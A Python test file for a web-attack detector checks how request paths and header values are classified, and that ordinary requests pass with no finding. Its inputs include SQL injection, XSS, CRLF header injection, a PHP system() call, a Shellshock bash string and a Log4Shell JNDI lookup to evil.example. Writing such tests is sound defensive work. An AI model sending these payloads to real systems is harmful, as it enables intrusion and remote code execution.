"""One value and what the grammars say about it."""

import time

from delicti.detect.contexts import Place
from delicti.detect.judge import MOST_FINDINGS, judge_target, judge_value


def test_a_place_has_one_class_that_is_surest():
    found = judge_target("/a?q=%3C?php+system('id');?%3E")
    assert len({j.confidence for j in found}) == len(found)


def test_the_parameter_is_named():
    assert judge_target("/a?x=1&id=1'+or+1=1--")[0].where == "query:id"


def test_the_way_to_the_form_is_told():
    assert judge_target("/a?x=%253Cscript%253Ealert(1)%253C/script%253E")[0].views == ("percent", "percent")


def test_what_is_shown_is_escaped():
    assert (
        "\\x0a" in judge_target("/a?x=a%0d%0aSet-Cookie:%20a=b")[0].shown
        or "Set-Cookie" in judge_target("/a?x=a%0d%0aSet-Cookie:%20a=b")[0].shown
    )


def test_an_ordinary_request_has_no_finding():
    assert judge_target("/shop/item.php?id=17&back=https%3A%2F%2Fwww.example.com%2Fshop") == []


def test_a_part_of_a_document_is_judged():
    assert judge_target('/a?d={"a":{"b":"1\' or 1=1--"}}'.replace('"', "%22").replace(" ", "%20"))[0].cls == "sqli"


def test_a_long_value_is_read_around_its_anchors_and_said_to_be_cut():
    found = judge_target("/a?x=" + "a" * 200_000 + "%3Cscript%3Ealert(1)%3C/script%3E")
    assert found[0].cls == "xss"
    assert "cut short" in found[0].views


def test_a_megabyte_takes_bounded_time():
    began = time.process_time()
    judge_target("/a?x=" + "'\"<(;|&%27" * 100_000)
    assert time.process_time() - began < 5


def test_ten_thousand_parameters_take_bounded_time():
    began = time.process_time()
    found = judge_target("/a?" + "&".join(f"p{n}='+or+{n}={n}" for n in range(20_000)))
    assert len(found) <= MOST_FINDINGS
    assert time.process_time() - began < 5


def test_bytes_that_are_no_text_are_judged():
    assert judge_target("/a?x=%ff%fe'+or+1=1--")[0].cls == "sqli"


def test_an_agent_may_carry_an_attack():
    assert judge_value(Place.AGENT, "", "() { :;}; /bin/bash -c id")[0].cls == "shellshock"


def test_a_browsers_name_carries_none():
    assert judge_value(Place.AGENT, "", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0") == []


def test_a_method_may_carry_an_attack():
    assert judge_value(Place.METHOD, "", "${jndi:ldap://evil.example/a}")[0].cls == "log4shell"


def test_an_ordinary_method_carries_none():
    assert [judge_value(Place.METHOD, "", method) for method in ("GET", "PROPFIND", "M-SEARCH")] == [[], [], []]
